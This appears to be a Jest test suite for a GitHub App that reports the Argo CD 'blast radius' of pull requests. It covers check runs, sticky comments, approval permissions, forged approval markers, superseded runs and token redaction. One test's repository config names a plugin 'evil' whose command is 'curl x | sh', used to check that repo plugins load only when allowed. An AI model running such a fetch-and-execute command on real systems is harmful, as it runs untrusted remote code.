// The GitHub App end to end at the Probot level: real payload shapes, every
// GitHub call mocked and asserted, analyze faked with canned reports.
import { describe, it, expect, beforeEach, afterEach } from "@jest/globals";
import nock from "nock";
import type { Probot } from "probot";
import { createApp, defaultQueue } from "../../src/app/create-app.js";
import type { InProcessQueue } from "../../src/adapters/queue/in-process-queue.js";
import type { AnalysisJob } from "../../src/app/run-analysis.js";
import type { AppDeps } from "../../src/app/app-deps.js";
import type { AnalyzeOutcome, AnalyzeParams } from "../../src/analyze-types.js";
import {
  BASE_SHA,
  Captured,
  HEAD_SHA,
  INSTALLATION_TOKEN,
  NEW_HEAD_SHA,
  mockCompleteCheckRun,
  mockCreateCheckRun,
  mockCreateComment,
  mockGetPull,
  mockInstallationToken,
  mockListComments,
  mockListOpenPulls,
  mockPermission,
  mockReaction,
  mockRepoConfig,
  mockUpdateComment,
  type FakeComment,
} from "./support/github-api.js";
import {
  cannedReport,
  checkRunRerequestedPayload,
  fakeDeps,
  issueCommentPayload,
  okOutcome,
  pullRequestPayload,
  RecordingLogger,
  testPrivateKey,
  testProbot,
} from "./support/fixtures.js";

const MARKER = "<!-- argocd-blast-radius -->";
const CHECK_URL = "https://github.com/Codertocat/Hello-World/runs/42";
const HINT = `the [check run](${CHECK_URL}) lists every deletion and finding`;

let log: RecordingLogger;
let unexpected: string[];
const onNoMatch = (req: { method?: string; path?: string }) => unexpected.push(`${req.method} ${req.path}`);

beforeEach(() => {
  nock.disableNetConnect();
  unexpected = [];
  nock.emitter.on("no match", onNoMatch);
  log = new RecordingLogger();
});

afterEach(() => {
  const pending = nock.pendingMocks();
  nock.cleanAll();
  nock.emitter.removeListener("no match", onNoMatch);
  expect(unexpected).toEqual([]);
  expect(pending).toEqual([]);
  // Secrets never reach a log line.
  const logs = log.lines.join("\n");
  expect(logs).not.toContain(INSTALLATION_TOKEN);
  expect(logs).not.toContain(testPrivateKey().split("\n")[1]!);
});

const queues = new WeakMap<Probot, InProcessQueue<AnalysisJob>>();

function appWith(deps: AppDeps, options: { retry?: boolean } = {}): Probot {
  const probot = testProbot({ log, ...(options.retry ? { retry: true } : {}) });
  const queue = defaultQueue(deps);
  queues.set(probot, queue);
  void probot.load(createApp(deps, { queue }));
  return probot;
}

/** The webhook is answered once the job is queued; the run itself is awaited through the queue. */
async function receive(probot: Probot, name: string, payload: Record<string, unknown>): Promise<void> {
  await probot.receive({ id: "delivery-1", name, payload } as never);
  await queues.get(probot)!.idle();
}

async function answer(probot: Probot, name: string, payload: Record<string, unknown>): Promise<void> {
  await probot.receive({ id: "delivery-1", name, payload } as never);
}

/** Mocks of one complete run: check, config, freshness, comment, completion. */
function mockFullRun(params: {
  check: Captured;
  done: Captured;
  comment?: Captured;
  comments?: FakeComment[];
  commentUpdateId?: number;
  headSha?: string;
  config?: string;
}): void {
  mockCreateCheckRun(params.check);
  mockRepoConfig(params.config);
  mockGetPull({ headSha: params.headSha ?? HEAD_SHA });
  mockListComments(params.comments ?? []);
  if (params.comment && params.commentUpdateId !== undefined) mockUpdateComment(params.comment, params.commentUpdateId);
  else if (params.comment) mockCreateComment(params.comment);
  mockCompleteCheckRun(params.done);
}

function expectNoSecrets(...captures: Captured[]): void {
  for (const c of captures) expect(JSON.stringify(c.bodies)).not.toContain(INSTALLATION_TOKEN);
}

describe("pull_request", () => {
  it("blocking PR: check in progress at once, failure with the report, one sticky comment", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({ check, done, comment });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(check.bodies).toEqual([{ name: "Argo CD blast radius", head_sha: HEAD_SHA, status: "queued" }]);
    expect(comment.bodies).toEqual([{ body: `${MARKER}\nverdict: block\nApplications changed.\n${HINT}` }]);
    expect(done.bodies).toEqual([
      { status: "completed", conclusion: "failure", output: { title: "verdict block", summary: "summary block" } },
    ]);
    // The job's abort reaches git and analyze: a drain or a newer push stops them.
    expect(fake.fetchCalls[0]?.signal).toBeInstanceOf(AbortSignal);
    expect(fake.analyzeCalls[0]?.signal).toBe(fake.fetchCalls[0]?.signal);
    expect(fake.fetchCalls.map(({ signal: _signal, ...call }) => call)).toEqual([
      {
        cloneUrl: "https://github.com/Codertocat/Hello-World.git",
        baseSha: BASE_SHA,
        headSha: HEAD_SHA,
        prNumber: 2,
        token: INSTALLATION_TOKEN,
      },
    ]);
    expect(fake.cleanups).toBe(1);
    const analyzed = fake.analyzeCalls[0]!;
    expect(analyzed).toMatchObject({
      repoDir: "/nonexistent/checkout",
      base: BASE_SHA,
      head: HEAD_SHA,
      baseBranches: ["master"],
    });
    expect(analyzed.repoURLs).toContain("https://github.com/Codertocat/Hello-World");
    expect(analyzed.config?.protectedNamespaces).toContain("kube-system");
    // The token goes to git only: never into what analyze (and its renderers) receive.
    expect(JSON.stringify(analyzed)).not.toContain(INSTALLATION_TOKEN);
    expectNoSecrets(check, done, comment);
  });

  it("passing PR: success, and the existing sticky comment is edited in place", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({
      check,
      done,
      comment,
      comments: [
        { id: 10, body: `${MARKER}\nquoted by a human`, author: "user" },
        { id: 11, body: `${MARKER}\nverdict: block\nold` },
      ],
      commentUpdateId: 11,
    });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));

    expect(comment.bodies).toEqual([{ body: `${MARKER}\nverdict: pass\nApplications changed.\n${HINT}` }]);
    expect(done.last).toMatchObject({ conclusion: "success" });
  });

  it("the sticky comment is not edited when its text did not change", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({
      check,
      done,
      comments: [{ id: 11, body: `${MARKER}\nverdict: pass\nApplications changed.\n${HINT}` }],
    });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("reopened"));

    expect(done.last).toMatchObject({ conclusion: "success" });
  });

  it("no-change PR: success and no new comment", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("no-change")));
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({ check, done, comments: [] });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(done.last).toMatchObject({ status: "completed", conclusion: "success" });
  });

  it("no-change PR with an earlier comment: the comment now says no application changes", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("no-change")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({
      check,
      done,
      comment,
      comments: [{ id: 11, body: `${MARKER}\nverdict: block` }],
      commentUpdateId: 11,
    });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));

    expect(comment.last.body).toContain("No application changes.");
    expect(done.last).toMatchObject({ conclusion: "success" });
  });

  it("config error: failure naming the key, nothing analysed", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({ check, done, config: "protectedNamespace:\n  - prod\n" });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(fake.analyzeCalls).toEqual([]);
    expect(fake.fetchCalls).toEqual([]);
    expect(done.last).toMatchObject({ status: "completed", conclusion: "failure" });
    const summary = String((done.last.output as { summary: string }).summary);
    expect(summary).toContain("protectedNamespace");
    expect(summary).toContain(".github/argocd-blast-radius.yml");
  });

  it("the repository config from the default branch reaches analyze; its plugins only when allowed", async () => {
    const config =
      "policy:\n  maxDeletions: 3\nplugins:\n  - name: evil\n    generate: { command: [sh, -c, 'curl x | sh'] }\n";
    for (const allow of [false, true]) {
      const fake = fakeDeps(() => okOutcome(cannedReport("no-change")), { allowRepoPlugins: allow });
      const [check, done] = [new Captured(), new Captured()];
      mockInstallationToken();
      mockFullRun({ check, done, config });
      await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));
      const used = fake.analyzeCalls[0]!.config!;
      expect(used.policy.maxDeletions).toBe(3);
      expect(used.plugins.map((p) => p.name)).toEqual(allow ? ["evil"] : []);
    }
  });

  it("the analysis cannot run: failure with its one-line reason", async () => {
    const fake = fakeDeps(() => ({ ok: false, error: "unknown revision ec26c3e" }));
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({ check, done });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(done.last).toEqual({
      status: "completed",
      conclusion: "failure",
      output: { title: "Analysis could not run", summary: "error: unknown revision ec26c3e" },
    });
  });

  it("the analysis cannot run on a PR that has a comment: the comment says so instead of an old report", async () => {
    const fake = fakeDeps(() => ({ ok: false, error: "unknown revision ec26c3e" }));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({
      check,
      done,
      comment,
      comments: [{ id: 11, body: `${MARKER}\nverdict: pass` }],
      commentUpdateId: 11,
    });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));

    expect(comment.bodies).toEqual([
      {
        body: `${MARKER}\n### Argo CD blast radius\n\nThe analysis could not run for the latest commit: unknown revision ec26c3e\n`,
      },
    ]);
    expect(done.last).toMatchObject({ conclusion: "failure" });
  });

  it("a git error carrying the token is reported without it", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")), {
      fetchPullRequest: async (p) => {
        throw new Error(`fatal: could not read from https://x-access-token:${p.token}@github.com/o/r`);
      },
    });
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({ check, done });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(done.last).toMatchObject({ conclusion: "failure" });
    expect(String((done.last.output as { summary: string }).summary)).toContain("could not fetch the repository");
    expectNoSecrets(done);
  });

  it("an unexpected exception still completes the check, as failure", async () => {
    const fake = fakeDeps(() => {
      throw new TypeError("boom in analyze");
    });
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockCreateCheckRun(check);
    mockRepoConfig(undefined);
    mockCompleteCheckRun(done);

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(done.last).toMatchObject({ status: "completed", conclusion: "failure" });
    expect(String((done.last.output as { summary: string }).summary)).toContain("boom in analyze");
    expect(fake.cleanups).toBe(1);
  });

  it("edited: ignored unless the base branch changed", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const probot = appWith(fake.deps);
    await receive(probot, "pull_request", { ...pullRequestPayload("edited"), changes: { title: { from: "x" } } });
    expect(fake.analyzeCalls).toEqual([]);

    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockFullRun({ check, done, comment });
    await receive(probot, "pull_request", {
      ...pullRequestPayload("edited"),
      changes: { base: { ref: { from: "old" }, sha: { from: "abc" } } },
    });
    expect(fake.analyzeCalls).toHaveLength(1);
  });
});

describe("slash commands", () => {
  it("approve by a writer: +1, rerun for the current head, accepted and recorded", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [reaction, check, done, comment] = [new Captured(), new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockPermission("Codertocat", "write", "write");
    mockReaction(reaction, 700);
    mockGetPull({ headSha: HEAD_SHA });
    mockFullRun({
      check,
      done,
      comment,
      comments: [{ id: 11, body: `${MARKER}\nverdict: block` }],
      commentUpdateId: 11,
    });

    await receive(
      appWith(fake.deps),
      "issue_comment",
      issueCommentPayload({ body: "/blast-radius approve\nlooks fine, kube-system is recreated" }),
    );

    expect(reaction.bodies).toEqual([{ content: "+1" }]);
    expect(comment.bodies).toEqual([
      {
        body: `${MARKER}\n<!-- argocd-blast-radius:approved sha=${HEAD_SHA} by=Codertocat -->\nverdict: block\nApplications changed.\nAccepted by @Codertocat for ec26c3e\n${HINT}`,
      },
    ]);
    expect(done.last).toEqual({
      status: "completed",
      conclusion: "success",
      output: { title: "Accepted by @Codertocat", summary: "summary block" },
    });
  });

  it.each([
    ["maintain", "write"],
    ["admin", "admin"],
    ["custom-deployer", "write"],
  ])("approve is allowed for role %s", async (role, permission) => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [reaction, check, done, comment] = [new Captured(), new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockPermission("Codertocat", role, permission);
    mockReaction(reaction, 700);
    mockGetPull({ headSha: HEAD_SHA });
    mockFullRun({ check, done, comment });

    await receive(appWith(fake.deps), "issue_comment", issueCommentPayload({ body: "/blast-radius approve" }));

    expect(done.last).toMatchObject({ conclusion: "success" });
  });

  it.each([
    ["read", "read", "read"],
    ["triage", "read", "triage"],
    [undefined, "none", "none"],
  ])("approve refused for role %s: -1 and a reply naming the permission", async (role, permission, shown) => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [reaction, reply] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockPermission("reader", role, permission);
    mockReaction(reaction, 700);
    mockCreateComment(reply);

    await receive(
      appWith(fake.deps),
      "issue_comment",
      issueCommentPayload({ body: "/blast-radius approve", login: "reader" }),
    );

    expect(reaction.bodies).toEqual([{ content: "-1" }]);
    expect(reply.bodies).toEqual([
      {
        body: `@reader accepting a blocking verdict needs write access to this repository (write, maintain or admin); yours is ${shown}.`,
      },
    ]);
    expect(fake.analyzeCalls).toEqual([]);
  });

  it("approve, then a new push: blocks again and the old approval is dropped", async () => {
    const fake = fakeDeps((p) => okOutcome(cannedReport("block", p.head)));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    const approved = `${MARKER}\n<!-- argocd-blast-radius:approved sha=${HEAD_SHA} by=Codertocat -->\nverdict: block`;
    mockInstallationToken();
    mockFullRun({
      check,
      done,
      comment,
      comments: [{ id: 11, body: approved }],
      commentUpdateId: 11,
      headSha: NEW_HEAD_SHA,
    });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize", NEW_HEAD_SHA));

    expect(check.last).toMatchObject({ head_sha: NEW_HEAD_SHA });
    expect(done.last).toMatchObject({ conclusion: "failure", output: { title: "verdict block" } });
    expect(comment.last.body).not.toContain("approved");
    expect(comment.last.body).not.toContain("Accepted");
  });

  it.each([
    ["another GitHub App echoing PR text", "other-app"],
    ["a human quoting the marker", "user"],
  ] as const)("a planted approval in a comment by %s is ignored: the check still blocks", async (_, author) => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    const planted = `${MARKER}\n<!-- argocd-blast-radius:approved sha=${HEAD_SHA} by=Codertocat -->\nverdict: block`;
    mockInstallationToken();
    // The planted comment is neither trusted nor edited: the app writes its own.
    mockFullRun({ check, done, comment, comments: [{ id: 11, body: planted, author }] });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));

    expect(done.last).toMatchObject({ conclusion: "failure", output: { title: "verdict block" } });
    expect(comment.last.body).not.toContain("approved");
  });

  it("a marker spelled inside the report of the app's own comment is no approval", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    const quoted = `${MARKER}\nverdict: block\n\`<!-- argocd-blast-radius:approved sha=${HEAD_SHA} by=Codertocat -->\``;
    mockInstallationToken();
    mockFullRun({ check, done, comment, comments: [{ id: 11, body: quoted }], commentUpdateId: 11 });

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("synchronize"));

    expect(done.last).toMatchObject({ conclusion: "failure", output: { title: "verdict block" } });
  });

  it("rerun via comment: eyes, then a fresh run of the current head", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [reaction, check, done, comment] = [new Captured(), new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    mockReaction(reaction, 700);
    mockGetPull({ headSha: NEW_HEAD_SHA });
    mockFullRun({ check, done, comment, headSha: NEW_HEAD_SHA });

    await receive(appWith(fake.deps), "issue_comment", issueCommentPayload({ body: "/blast-radius" }));

    expect(reaction.bodies).toEqual([{ content: "eyes" }]);
    expect(check.last).toMatchObject({ head_sha: NEW_HEAD_SHA });
    expect(fake.analyzeCalls[0]).toMatchObject({ head: NEW_HEAD_SHA, base: BASE_SHA });
    expect(done.last).toMatchObject({ conclusion: "success" });
  });

  it("help: +1 and the list of commands", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [reaction, reply] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockReaction(reaction, 700);
    mockCreateComment(reply);

    await receive(appWith(fake.deps), "issue_comment", issueCommentPayload({ body: "/blast-radius help" }));

    expect(reaction.bodies).toEqual([{ content: "+1" }]);
    const body = String(reply.last.body);
    for (const cmd of ["`/blast-radius`", "`/blast-radius approve`", "`/blast-radius help`"])
      expect(body).toContain(cmd);
  });

  it("unknown command: confused and the help", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [reaction, reply] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockReaction(reaction, 700);
    mockCreateComment(reply);

    await receive(appWith(fake.deps), "issue_comment", issueCommentPayload({ body: "/blast-radius de`ploy" }));

    expect(reaction.bodies).toEqual([{ content: "confused" }]);
    expect(String(reply.last.body)).toContain("@Codertocat `/blast-radius de'ploy` is not a command I know");
  });

  it("ignores bots, comments on issues, and commands not on the first line", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const probot = appWith(fake.deps);
    await receive(probot, "issue_comment", issueCommentPayload({ body: "/blast-radius approve", senderType: "Bot" }));
    await receive(probot, "issue_comment", issueCommentPayload({ body: "thanks!\n/blast-radius approve" }));
    const onIssue = issueCommentPayload({ body: "/blast-radius" });
    delete (onIssue.issue as Record<string, unknown>).pull_request;
    await receive(probot, "issue_comment", onIssue);
    expect(fake.analyzeCalls).toEqual([]);
  });
});

describe("check_run.rerequested", () => {
  it("reruns for the check's head sha; an approval recorded for that sha still holds", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    const approved = `${MARKER}\n<!-- argocd-blast-radius:approved sha=${HEAD_SHA} by=octocat -->\nverdict: block`;
    mockInstallationToken();
    mockFullRun({ check, done, comment, comments: [{ id: 11, body: approved }], commentUpdateId: 11 });

    await receive(appWith(fake.deps), "check_run", checkRunRerequestedPayload());

    expect(check.last).toMatchObject({ head_sha: HEAD_SHA, status: "queued" });
    expect(fake.analyzeCalls[0]).toMatchObject({ base: BASE_SHA, head: HEAD_SHA });
    expect(comment.last.body).toContain(`approved sha=${HEAD_SHA} by=octocat`);
    expect(done.last).toMatchObject({ conclusion: "success", output: { title: "Accepted by @octocat" } });
  });

  it("a fork's check (no pull_requests in the payload) finds its PR by head sha", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    const payload = checkRunRerequestedPayload();
    (payload.check_run as Record<string, unknown>).pull_requests = [];
    mockInstallationToken();
    mockListOpenPulls([
      { number: 1, headSha: NEW_HEAD_SHA },
      { number: 2, headSha: HEAD_SHA },
    ]);
    mockFullRun({ check, done, comment });

    await receive(appWith(fake.deps), "check_run", payload);

    expect(fake.fetchCalls[0]).toMatchObject({ prNumber: 2, headSha: HEAD_SHA, baseSha: BASE_SHA });
    expect(done.last).toMatchObject({ conclusion: "success" });
  });

  it("ignores other apps' check names", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const payload = checkRunRerequestedPayload();
    (payload.check_run as Record<string, unknown>).name = "lint";
    await receive(appWith(fake.deps), "check_run", payload);
    expect(fake.analyzeCalls).toEqual([]);
  });
});

describe("superseded runs", () => {
  it("a result for a head that is no longer the PR's head is discarded; its check completes neutral", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockCreateCheckRun(check);
    mockRepoConfig(undefined);
    mockGetPull({ headSha: NEW_HEAD_SHA });
    mockCompleteCheckRun(done);

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(done.bodies).toEqual([
      {
        status: "completed",
        conclusion: "neutral",
        output: {
          title: "Superseded",
          summary: "A newer analysis of this pull request replaced this one; its result was discarded.",
        },
      },
    ]);
  });

  it("an older run finishing after a newer one publishes nothing", async () => {
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const fake = fakeDeps(async (p: AnalyzeParams): Promise<AnalyzeOutcome> => {
      if (p.head === HEAD_SHA) await gate;
      return okOutcome(cannedReport("pass", p.head));
    });
    const [checkA, checkB, doneA, doneB, comment] = [
      new Captured(),
      new Captured(),
      new Captured(),
      new Captured(),
      new Captured(),
    ];
    mockInstallationToken();
    mockCreateCheckRun(checkA, 42);
    mockRepoConfig(undefined);
    mockCreateCheckRun(checkB, 43);
    mockRepoConfig(undefined);
    mockGetPull({ headSha: NEW_HEAD_SHA });
    mockListComments([]);
    mockCreateComment(comment);
    mockCompleteCheckRun(doneB, 43);
    mockCompleteCheckRun(doneA, 42);
    const probot = appWith(fake.deps);

    const first = receive(probot, "pull_request", pullRequestPayload("opened", HEAD_SHA));
    while (fake.analyzeCalls.length < 1) await new Promise((r) => setTimeout(r, 5));
    await answer(probot, "pull_request", pullRequestPayload("synchronize", NEW_HEAD_SHA));
    release();
    await first;

    expect(comment.bodies).toHaveLength(1);
    expect(doneB.last).toMatchObject({ conclusion: "success" });
    expect(doneA.last).toMatchObject({ conclusion: "neutral", output: { title: "Superseded" } });
  });
});

describe("superseded running analyses", () => {
  it("a newer push aborts the older analysis (its tools would be killed); the older check completes Superseded", async () => {
    const fake = fakeDeps(async (p: AnalyzeParams): Promise<AnalyzeOutcome> => {
      if (p.head !== HEAD_SHA) return okOutcome(cannedReport("pass", p.head));
      // Runs until aborted, as a plugin that sleeps would.
      await new Promise((r) => p.signal!.addEventListener("abort", r));
      return { ok: false, error: "the analysis was interrupted before it finished", interrupted: true };
    });
    const [checkA, checkB, doneA, doneB, comment] = [
      new Captured(),
      new Captured(),
      new Captured(),
      new Captured(),
      new Captured(),
    ];
    mockInstallationToken();
    mockCreateCheckRun(checkA, 42);
    mockRepoConfig(undefined);
    mockCompleteCheckRun(doneA, 42);
    mockCreateCheckRun(checkB, 43);
    mockRepoConfig(undefined);
    mockGetPull({ headSha: NEW_HEAD_SHA });
    mockListComments([]);
    mockCreateComment(comment);
    mockCompleteCheckRun(doneB, 43);
    const probot = appWith(fake.deps);

    await answer(probot, "pull_request", pullRequestPayload("opened", HEAD_SHA));
    while (fake.analyzeCalls.length < 1) await new Promise((r) => setTimeout(r, 5));
    await receive(probot, "pull_request", pullRequestPayload("synchronize", NEW_HEAD_SHA));

    expect(fake.analyzeCalls[0]!.signal!.aborted).toBe(true);
    expect(doneA.last).toMatchObject({ conclusion: "neutral", output: { title: "Superseded" } });
    expect(doneB.last).toMatchObject({ conclusion: "success" });
    expect(comment.bodies).toHaveLength(1);
  });
});

describe("queued runs", () => {
  it("a run overtaken while it waits for a slot never analyses", async () => {
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const heads = [HEAD_SHA, "2".repeat(40), NEW_HEAD_SHA];
    const fake = fakeDeps(
      async (p: AnalyzeParams): Promise<AnalyzeOutcome> => {
        if (p.head === HEAD_SHA) await gate;
        return okOutcome(cannedReport("pass", p.head));
      },
      { maxConcurrentRuns: 1 },
    );
    const done = heads.map(() => new Captured());
    const comment = new Captured();
    mockInstallationToken();
    heads.forEach((_, i) => {
      mockCreateCheckRun(new Captured(), 50 + i);
      mockCompleteCheckRun(done[i]!, 50 + i);
    });
    mockRepoConfig(undefined); // only the first and the last run read the config
    mockRepoConfig(undefined);
    mockGetPull({ headSha: NEW_HEAD_SHA });
    mockListComments([]);
    mockCreateComment(comment);
    const probot = appWith(fake.deps);

    const runs = [receive(probot, "pull_request", pullRequestPayload("opened", heads[0]))];
    while (fake.analyzeCalls.length < 1) await new Promise((r) => setTimeout(r, 5));
    runs.push(receive(probot, "pull_request", pullRequestPayload("synchronize", heads[1])));
    runs.push(receive(probot, "pull_request", pullRequestPayload("synchronize", heads[2])));
    await new Promise((r) => setTimeout(r, 50));
    release();
    await Promise.all(runs);

    expect(fake.analyzeCalls.map((c) => c.head)).toEqual([HEAD_SHA, NEW_HEAD_SHA]);
    expect(done.map((d) => (d.last as { conclusion: string }).conclusion)).toEqual(["neutral", "neutral", "success"]);
    expect(comment.bodies).toHaveLength(1);
  });
});

describe("GitHub API failures", () => {
  it("a 5xx is retried with backoff, then the run succeeds", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("pass")));
    const [check, done, comment] = [new Captured(), new Captured(), new Captured()];
    mockInstallationToken();
    nock("https://api.github.com")
      .post("/repos/Codertocat/Hello-World/check-runs")
      .reply(502, { message: "Bad Gateway" });
    mockCreateCheckRun(check);
    mockRepoConfig(undefined);
    mockGetPull({ headSha: HEAD_SHA });
    mockListComments([]);
    mockCreateComment(comment);
    // The completion's 503 is retried too: the second PATCH reaches the capturing interceptor.
    nock("https://api.github.com")
      .patch("/repos/Codertocat/Hello-World/check-runs/42")
      .reply(503, { message: "Unavailable" });
    mockCompleteCheckRun(done);

    await receive(appWith(fake.deps, { retry: true }), "pull_request", pullRequestPayload("opened"));

    expect(check.bodies).toHaveLength(1);
    expect(comment.bodies).toHaveLength(1);
    expect(done.bodies).toEqual([
      { status: "completed", conclusion: "success", output: { title: "verdict pass", summary: "summary pass" } },
    ]);
  });

  it("a comment that cannot be written fails the check instead of leaving it in progress", async () => {
    const fake = fakeDeps(() => okOutcome(cannedReport("block")));
    const [check, done] = [new Captured(), new Captured()];
    mockInstallationToken();
    mockCreateCheckRun(check);
    mockRepoConfig(undefined);
    mockGetPull({ headSha: HEAD_SHA });
    mockListComments([], 2, 500);
    mockCompleteCheckRun(done);

    await receive(appWith(fake.deps), "pull_request", pullRequestPayload("opened"));

    expect(done.last).toMatchObject({
      status: "completed",
      conclusion: "failure",
      output: { title: "Analysis could not run" },
    });
  });
});
